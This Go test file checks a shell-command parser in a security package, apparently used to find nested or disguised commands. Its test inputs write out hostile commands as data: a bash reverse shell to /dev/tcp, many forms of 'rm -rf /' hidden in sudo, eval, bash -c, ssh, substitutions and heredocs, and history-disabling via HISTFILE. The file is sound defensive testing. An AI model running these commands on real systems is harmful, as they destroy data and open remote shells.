package security

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// show writes segments compactly: words joined by spaces, then
// "[=assign]", "[>out]", "[<in]", "[<<body]".
func show(segs []segment) []string {
	var out []string
	for _, s := range segs {
		parts := []string{strings.Join(s.words, " ")}
		for _, a := range s.assigns {
			parts = append(parts, "[="+a+"]")
		}
		for _, r := range s.redirOut {
			parts = append(parts, "[>"+r+"]")
		}
		for _, r := range s.redirIn {
			parts = append(parts, "[<"+r+"]")
		}
		for _, h := range s.heredocs {
			parts = append(parts, "[<<"+h+"]")
		}
		out = append(out, strings.Join(parts, " "))
	}
	return out
}

func TestParseShell(t *testing.T) {
	tests := []struct {
		cmd  string
		want []string
	}{
		{"", nil},
		{"ls -la", []string{"ls -la"}},
		{"cd /x && make || echo 'fail; really' ; ls", []string{"cd /x", "make", "echo fail; really", "ls"}},
		{`echo "a b" 'c d' e\ f`, []string{"echo a b c d e f"}},
		{`echo "x\"y" "\$HOME" $HOME`, []string{`echo x"y $HOME $HOME`}},
		{"a | b |& c & d", []string{"a", "b", "c", "d"}},
		{"make > out.log 2>&1", []string{"make [>out.log]"}},
		{"cmd 2>/dev/null >>log &>all <in", []string{"cmd [>/dev/null] [>log] [>all] [<in]"}},
		{"bash -i >& /dev/tcp/h/1 0>&1", []string{"bash -i [>/dev/tcp/h/1]"}},
		{"FOO=1 BAR=2 env", []string{"env [=FOO=1] [=BAR=2]"}},
		{"HISTFILE=/dev/null", []string{" [=HISTFILE=/dev/null]"}},
		{"sudo -u root -- rm -rf /", []string{"sudo -u root -- rm -rf /", "rm -rf /"}},
		{"sudo env X=1 nice -n 5 rm x", []string{"sudo env X=1 nice -n 5 rm x", "env X=1 nice -n 5 rm x", "nice -n 5 rm x", "rm x"}},
		{"timeout -s KILL 5 curl x", []string{"timeout -s KILL 5 curl x", "curl x"}},
		{"bash -c 'rm -rf / ; ls'", []string{"bash -c rm -rf / ; ls", "rm -rf /", "ls"}},
		{"sh -ec 'a'", []string{"sh -ec a", "a"}},
		{"bash script.sh -c x", []string{"bash script.sh -c x"}},
		{`eval "rm -rf" /`, []string{"eval rm -rf /", "rm -rf /"}},
		{"echo $(rm -rf /) `id`", []string{"echo $(rm -rf /) `id`", "rm -rf /", "id"}},
		{`echo "$(whoami)"`, []string{"echo $(whoami)", "whoami"}},
		{"diff <(curl a) <(curl b)", []string{"diff <(...) <(...)", "curl a", "curl b"}},
		{"echo ${X:-a b}", []string{"echo ${X:-a b}"}},
		{"find / -name x -exec rm -f {} \\; -print", []string{"find / -name x -exec rm -f {} ; -print", "rm -f {}"}},
		{"ssh -p 22 host 'rm -rf /'", []string{"ssh -p 22 host rm -rf /", "rm -rf /"}},
		{"su -c 'id' root", []string{"su -c id root", "id"}},
		{"xargs -I{} rm {}", []string{"xargs -I{} rm {}", "rm {}"}},
		{"{ rm x; }", []string{"rm x"}},
		{"if true; then rm -rf /; fi", []string{"true", "rm -rf /"}},
		{"for f in a b; do rm $f; done", []string{"for f in a b", "rm $f"}},
		{"ls # rm -rf /\npwd", []string{"ls", "pwd"}},
		{"cat <<EOF > f\nrm -rf /\nEOF\nls", []string{"cat [>f] [<<rm -rf /\n]", "ls"}},
		{"bash <<'EOF'\nrm -rf /\nEOF", []string{"bash [<<rm -rf /\n]", "rm -rf /"}},
		{"cat <<-END\n\tx\n\tEND\necho", []string{"cat [<<\tx\n]", "echo"}},
		{"/usr/bin/sudo \\rm -rf /", []string{"/usr/bin/sudo rm -rf /", "rm -rf /"}},
		{"echo 'unterminated", []string{"echo unterminated"}},
		{`echo "unterminated $(x`, []string{"echo unterminated $(x)", "x"}},
		{"a\\\nb", []string{"ab"}},
		{"echo $'a\\'b'", []string{"echo a'b"}},
	}
	for _, tt := range tests {
		got := show(parseShell(tt.cmd))
		if diff := cmp.Diff(got, tt.want); diff != "" {
			t.Errorf("parseShell(%q) (-got +want):\n%s", tt.cmd, diff)
		}
	}
}

// TestParseShellLimits checks that nesting and size are bounded.
func TestParseShellLimits(t *testing.T) {
	for _, deep := range []string{
		strings.Repeat("echo $(", 50) + "rm -rf /" + strings.Repeat(")", 50),
		strings.Repeat("eval ", 50) + "rm -rf /",
		strings.Repeat("sudo ", 50) + "rm -rf /",
		strings.Repeat(`sh -c "$(`, 12) + "x" + strings.Repeat(`)"`, 12),
	} {
		if segs := parseShell(deep); len(segs) > 300 {
			t.Errorf("%d segments from %.30q...", len(segs), deep)
		}
	}
	many := parseShell(strings.Repeat("a;", 10*maxShellSegments))
	if len(many) > maxShellSegments {
		t.Errorf("%d segments, more than %d", len(many), maxShellSegments)
	}
}
